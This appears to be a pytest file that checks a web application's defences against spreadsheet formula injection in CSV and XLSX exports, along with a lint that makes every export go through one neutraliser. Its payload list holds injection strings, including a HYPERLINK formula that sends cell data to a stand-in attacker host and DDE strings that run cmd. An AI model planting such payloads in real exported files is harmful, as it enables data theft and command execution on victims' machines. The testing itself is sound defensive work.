"""Spreadsheet formula injection: one neutraliser (core.spreadsheet) that every CSV and XLSX export uses.

The per-export tests live with their apps (reporting/tests/test_export_injection.py,
register/tests/test_export_injection.py); these test the neutraliser itself and that nothing bypasses it.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from beredd.core import spreadsheet

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_prefixed_in_csv(payload: str) -> None:
    text = spreadsheet.csv_text(["name"], [[payload]])
    import csv

    cells = list(csv.reader(io.StringIO(text)))
    assert cells[1] == ["'" + payload]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_header_is_neutralised_too(payload: str) -> None:
    assert spreadsheet.csv_text([payload], []).startswith(("'", "\"'"))


@pytest.mark.parametrize("value", ["-5", "+46 70 123 45 67", "-1,5", "Anna", "", "1=1", "a@b.se"])
def test_plain_text_and_signed_numbers_are_left_alone(value: str) -> None:
    assert spreadsheet.neutralise(value) == value


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert spreadsheet.neutralise(-5) == -5 and spreadsheet.neutralise(1.5) == 1.5
    assert spreadsheet.neutralise(None) == "" and spreadsheet.neutralise(True) == "True"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_writes_strings_as_string_cells_never_formulas(payload: str) -> None:
    data = spreadsheet.xlsx_bytes(["name", payload], [[payload, -5, "ok"]], title="t")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if c.data_type == "s"}
    assert payload.replace("\r", "\n") in {t.replace("\r", "\n") for t in texts if isinstance(t, str)}
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    # No <f> element anywhere in the sheet XML.
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_xlsx_drops_control_characters_instead_of_failing() -> None:
    data = spreadsheet.xlsx_bytes(["a"], [["x\x01y\x00z"]], title="t[1]:*?/")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet["A2"].value == "xyz"


SRC = Path(spreadsheet.__file__).resolve().parents[1]
WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\b|\bimport\s+tablib\b|\bxlsxwriter\b|openpyxl(\.workbook)?\s+import\s+[^\n]*\bWorkbook\b|openpyxl\.Workbook\b"
)


def test_no_module_outside_the_neutraliser_writes_csv_or_xlsx_directly() -> None:
    """Lint: every export must go through core.spreadsheet (reading uploads with load_workbook is fine)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == Path(spreadsheet.__file__).resolve():
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def test_the_lint_pattern_catches_what_it_should() -> None:
    for line in ("w = csv.writer(out)", "csv.DictWriter(f, x)", "from openpyxl import Workbook", "import tablib"):
        assert WRITERS.search(line), line
    assert not WRITERS.search("from openpyxl import load_workbook")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_restore_undoes_the_prefix_and_nothing_else(payload: str) -> None:
    assert spreadsheet.restore(spreadsheet.neutralise(payload)) == payload
    assert spreadsheet.restore("'Anna") == "'Anna" and spreadsheet.restore("'-5") == "'-5"
